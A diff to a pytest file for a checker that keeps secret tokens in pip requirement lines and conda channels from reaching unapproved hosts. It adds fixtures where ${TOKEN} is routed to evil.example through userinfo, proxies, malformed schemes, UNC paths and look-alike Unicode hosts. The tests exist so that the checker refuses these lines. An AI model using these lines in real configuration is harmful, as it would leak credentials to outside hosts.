@@ -63,7 +63,7 @@ def test_the_message_has_the_name_and_the_line_that_allows_it() -> None:
         ("${TOKEN}@notknown.example", "https://notknown.example"),
         ("${TOKEN}@known.example:8443", "https://known.example:8443"),
         ("${TOKEN}.known.example", "https://${TOKEN}.known.example"),
-        ("${TOKEN}@kn\u043ewn.example", "https://xn--knwn-65d.example"),
+        ("${TOKEN}@kn\u043ewn.example", "https://kn\\u043ewn.example"),
         ("${TOKEN}@known%2eexample", "https://known%2eexample"),
         ("${TOKEN}@known.example\\@evil.example", "https://evil.example"),
     ],
@@ -155,6 +155,112 @@ def test_what_allows_nothing_is_refused(bad: str) -> None:
 
 def test_an_address_has_one_spelling() -> None:
     assert origin("HTTP://me:pw@Host.:80/x") == "http://host"
-    assert origin("https://b\u00fccher.example/") == origin("https://xn--bcher-kva.example:443")
+    assert origin("https://b\u00fccher.example/") == ""
     assert origin("https://[::1]:8080/") == "https://[::1]:8080"
     assert origin("https://a:b/") == origin("https:///x") == origin("no address") == ""
+
+
+@pytest.mark.parametrize(
+    "host",
+    [
+        *("fa\u00df.de", "fa\u200dss.de", "fass\u00ad.de", "\u03c3\u03c2.example", "fass.de\u3002"),
+        *(
+            "\uff26ass.de",
+            "fass.de\u200b",
+            "b\u00fccher.example",
+            "fass.de..",
+            "fass..de",
+            "fass.de;x",
+        ),
+    ],
+)
+def test_a_host_that_programs_read_differently_is_in_doubt(host: str) -> None:
+    line = f"--index-url https://${{TOKEN}}@{host}/simple"
+    configured = f"https://fass.de/ https://{host}/simple https://xn--bcher-kva.example/"
+    assert origin(f"https://{host}/simple") == ""
+    assert sent(line, PIP_EXTRA_INDEX_URL=configured).isascii()
+    with pytest.raises(UnknownHostError, match="with the host in ASCII") as caught:
+        check_variables([line], NONE, {"TOKEN": "w0rd-of-ours"}, sys.executable)
+    assert "allow" not in str(caught.value)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--index-url https://\u00a0@evil/${TOKEN}/simple",
+        "--index-url https://u\x1f@evil/${TOKEN}/simple",
+        "--index-url https://a\u2003b/${TOKEN}",
+        "-e git+git@evil.example:${TOKEN}/x.git#egg=x",
+        "x @ git+git@evil.example:${TOKEN}/x.git",
+        "--index-url https:/evil.example/${TOKEN}",
+        "--find-links https:evil.example/${TOKEN}",
+        "--index-url https:\\\\evil.example\\${TOKEN}",
+        "--find-links \\\\evil.example\\${TOKEN}",
+        "--find-links //evil.example/${TOKEN}",
+        "--find-links file://evil.example/${TOKEN}",
+        '--find-links="https://known.example"@evil.example/${TOKEN}',
+        "--proxy ${TOKEN}@evil.example:80",
+        "--proxy ${TOKEN}.evil.example/a",
+        "--index-url evil.example/${TOKEN}",
+        "${TOKEN}==1.0",
+        "own-${TOKEN}",
+        "--trusted-host ${TOKEN}.evil.example",
+    ],
+)
+def test_a_word_that_is_no_known_address_is_refused(line: str) -> None:
+    assert sent(line, PIP_INDEX_URL=KNOWN) != ""
+    assert sent(line, Permit((line,))) == ""  # the user's own
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--find-links ${HOME}/wheels",
+        "-e ${HOME}/project",
+        "--find-links=./${TOKEN}/wheels",
+        "--find-links ${TOKEN}/wheels",
+        "own @ file://${HOME}/own-1.0-py3-none-any.whl",
+        "own @ git+file:///srv/${TOKEN}/own",
+        "--index-url=https://${TOKEN}@known.example/simple",
+        "--index-url ${OURS}/simple",
+        "--index-url ${OURS}simple?a=${TOKEN}",
+    ],
+)
+def test_a_path_of_this_machine_and_a_whole_address_are_no_hosts_of_others(line: str) -> None:
+    assert sent(line, HOME="/home/me@corp", OURS="https://corp.example/", PIP_INDEX_URL=KNOWN) == ""
+
+
+@pytest.mark.parametrize(
+    "channel",
+    [
+        "http://$TOKEN.evil.example/chan",
+        "http://evil.example/$TOKEN/chan",
+        "http://evil.example/${lower}/chan",
+        "http://evil.example/$lower/chan",
+        "http://${TOKEN}@evil.example/chan",
+        "$TOKEN",
+        "conda-forge/$lower",
+        "http://evil.example/$TOKEN::numpy",
+        "numpy[channel=$lower]",
+    ],
+)
+def test_a_channel_is_looked_at_as_conda_reads_it(channel: str) -> None:
+    variables = {"TOKEN": "w0rd-of-ours", "lower": "an0ther-word", "PIP_INDEX_URL": KNOWN}
+    with pytest.raises(UnknownHostError) as caught:
+        check_variables([], NONE, variables, sys.executable, [channel])
+    assert not [word for word in ("w0rd", "an0ther") if word in str(caught.value)]
+    check_variables([], Permit((channel,)), variables, sys.executable, [channel])
+    known = channel.replace("evil", "known")
+    if "known.example/" in known and "TOKEN.known" not in known:
+        check_variables([], NONE, variables, sys.executable, [known.replace("http:", "https:")])
+
+
+def test_what_is_allowed_for_another_scheme_is_said() -> None:
+    line = "--index-url http://127.0.0.1:42485/${TOKEN}/simple"
+    permit = Permit(variables=("TOKEN=127.0.0.1:42485",))
+    with pytest.raises(UnknownHostError) as caught:
+        check_variables([line], permit, {"TOKEN": "w0rd-of-ours"}, sys.executable)
+    said = str(caught.value)
+    assert "https://127.0.0.1:42485 is allowed: a host without a scheme is one of https" in said
+    assert "TOKEN=http://127.0.0.1:42485" in said
+    assert sent(line, Permit(variables=("TOKEN=http://127.0.0.1:42485",))) == ""
